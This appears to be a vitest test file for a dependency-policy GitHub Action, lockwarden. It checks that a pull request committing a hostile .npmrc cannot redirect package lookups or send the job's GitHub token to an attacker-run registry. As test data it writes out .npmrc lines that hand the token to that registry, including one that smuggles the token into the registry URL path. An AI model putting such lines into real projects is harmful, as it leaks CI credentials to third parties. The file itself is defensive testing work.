// A pull request written by an attacker, against the built Action run as the runner runs it: its
// head commits an `.npmrc` pointing facts at a registry of its choosing (one that says every
// version was published in 2020) and hands that registry the job's token. The Action must read the
// project's npm configuration at the base commit, so the bump is still judged by the trusted
// registry, the hostile one hears nothing, and the summary says the .npmrc change waits for merge.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureActionBundle } from '../helpers/ensure-action-bundle.js';
import { type FakeRegistry, startFakeRegistry } from '../helpers/fake-registry.js';
import { closedPortUrl } from '../helpers/fake-upstream.js';
import { makeActionRepo } from '../helpers/make-action-repo.js';
import { type FullPackument, makePackument } from '../helpers/make-packument.js';
import { type BundleRun, runActionBundle } from '../helpers/run-action-bundle.js';

const TOKEN = 'ghs_hostile_pr_job_token';
const DAY_MS = 86_400_000;
const ago = (days: number) => new Date(Date.now() - days * DAY_MS);
const POLICY = 'id: team\ncoolingOffDays: 7\ntyposquatting: false\n';

/** What each registry says about the packages: `published` days ago for the newest versions. */
function packuments(youngDays: number): FullPackument[] {
  return [
    makePackument({
      name: 'left-pad',
      versions: [
        { version: '1.3.0', publishedAt: ago(900) },
        { version: '1.3.1', publishedAt: ago(youngDays) },
      ],
    }),
    makePackument({
      name: '@types/left-pad',
      versions: [{ version: '1.2.0', publishedAt: ago(youngDays) }],
    }),
  ];
}

let trusted: FakeRegistry;
let hostile: FakeRegistry;
let work: string;
let apiUrl: string;

beforeAll(async () => {
  ensureActionBundle();
  trusted = await startFakeRegistry({ packuments: packuments(1) });
  // "Everything was published in 2020."
  hostile = await startFakeRegistry({
    packuments: packuments(Math.round((Date.now() - Date.UTC(2020, 0, 1)) / DAY_MS)),
  });
  apiUrl = await closedPortUrl();
  work = mkdtempSync(path.join(tmpdir(), 'lockwarden-hostile-pr-'));
});

afterAll(async () => {
  await Promise.all([trusted?.close(), hostile?.close()]);
  if (work) rmSync(work, { recursive: true, force: true });
});

function runOnPullRequest(
  name: string,
  opts: {
    baseFiles: Record<string, string>;
    headFiles: Record<string, string>;
    headDeps: { name: string; version: string }[];
    inputs?: Record<string, string>;
  },
): Promise<BundleRun> {
  const repo = makeActionRepo({
    dir: path.join(work, name),
    base: { deps: [{ name: 'left-pad', version: '1.3.0' }] },
    head: { deps: opts.headDeps },
    files: { 'lockwarden.policy.yml': POLICY, ...opts.baseFiles },
    headFiles: opts.headFiles,
  });
  return runActionBundle({
    workspace: repo.dir,
    eventName: 'pull_request',
    event: { pull_request: { number: 7, base: { sha: repo.baseSha }, head: { sha: repo.headSha } } },
    apiUrl,
    githubToken: TOKEN,
    inputs: opts.inputs ?? {},
    env: { LOCKWARDEN_DOWNLOADS_URL: trusted.url },
  });
}

function expectNothingReached(registry: FakeRegistry, run: BundleRun) {
  expect(registry.requests).toEqual([]);
  // Nor did the token surface anywhere the runner keeps.
  // (`::add-mask::` is how the runner learns to hide it: the one place it must appear.)
  const stdout = run.stdout
    .split('\n')
    .filter((l) => !l.startsWith('::add-mask::'))
    .join('\n');
  for (const text of [stdout, run.stderr, run.summary, JSON.stringify(run.outputs)])
    expect(text).not.toContain(TOKEN);
}

describe('a pull request whose head commits a hostile .npmrc', () => {
  it('is judged by the base commit’s registry: the bump is blocked, the hostile registry gets no request and no token', async () => {
    hostile.requests.length = 0;
    trusted.requests.length = 0;
    const hostileRc = `registry=${hostile.url}\n//127.0.0.1:${hostile.port}/:_authToken=\${INPUT_GITHUB-TOKEN}\n`;
    const run = await runOnPullRequest('registry-and-token', {
      baseFiles: { '.npmrc': `registry=${trusted.url}\n` },
      headFiles: { '.npmrc': hostileRc },
      headDeps: [{ name: 'left-pad', version: '1.3.1' }],
    });
    expect(run.stderr).toBe('');
    expect(run.code).toBe(1);
    expect(run.commands).toContainEqual(
      expect.stringMatching(
        /^::error .*::left-pad@1\.3\.1 was published 1 day|^::error .*::left-pad@1\.3\.1 was published \d+ hours ago/,
      ),
    );
    expect(run.outputs.blocked).toBe('1');
    expect(trusted.requests.length).toBeGreaterThan(0);
    expectNothingReached(hostile, run);
    // The change is announced on the file and in the summary, and waits for merge.
    expect(run.commands).toContainEqual(
      expect.stringMatching(
        /^::warning title=lockwarden%3A npm configuration,file=\.npmrc::\.npmrc changed in this pull request; the one at the base commit [0-9a-f]{12} was used, .*the change applies after merge$/,
      ),
    );
    expect(run.summary).toContain('**npm configuration:** .npmrc changed in this pull request');
  });

  it('with the `registry` input set, an @scope:registry line on the head does not route the scope', async () => {
    hostile.requests.length = 0;
    const run = await runOnPullRequest('scope-registry', {
      baseFiles: {},
      headFiles: { '.npmrc': `@types:registry=${hostile.url}\n` },
      headDeps: [
        { name: 'left-pad', version: '1.3.0' },
        { name: '@types/left-pad', version: '1.2.0' },
      ],
      inputs: { registry: trusted.url },
    });
    expect(run.code).toBe(1);
    expect(run.outputs.blocked).toBe('1');
    expect(run.commands).toContainEqual(
      expect.stringMatching(/^::error .*::@types\/left-pad@1\.2\.0 was published/),
    );
    expectNothingReached(hostile, run);
    expect(run.summary).toContain('.npmrc is new in this pull request and was not used');
  });

  it('a token placed in a registry path on the head never leaves the runner', async () => {
    hostile.requests.length = 0;
    const run = await runOnPullRequest('token-in-path', {
      baseFiles: { '.npmrc': `registry=${trusted.url}\n` },
      headFiles: { '.npmrc': `registry=${hostile.url}\${INPUT_GITHUB-TOKEN}/\n` },
      headDeps: [{ name: 'left-pad', version: '1.3.1' }],
    });
    expect(run.code).toBe(1);
    expect(run.outputs.blocked).toBe('1');
    expectNothingReached(hostile, run);
  });

  it('the github-token is not handed to a registry even by the trusted configuration', async () => {
    trusted.requests.length = 0;
    const run = await runOnPullRequest('trusted-but-wrong', {
      baseFiles: {
        '.npmrc': `registry=${trusted.url}\n//127.0.0.1:${trusted.port}/:_authToken=\${INPUT_GITHUB-TOKEN}\n`,
      },
      headFiles: {},
      headDeps: [{ name: 'left-pad', version: '1.3.1' }],
    });
    expect(run.code).toBe(1);
    expect(run.commands.join('\n')).toMatch(/INPUT_GITHUB-TOKEN\}, which is not set in the environment/);
    expectNothingReached(trusted, run);
  });
});
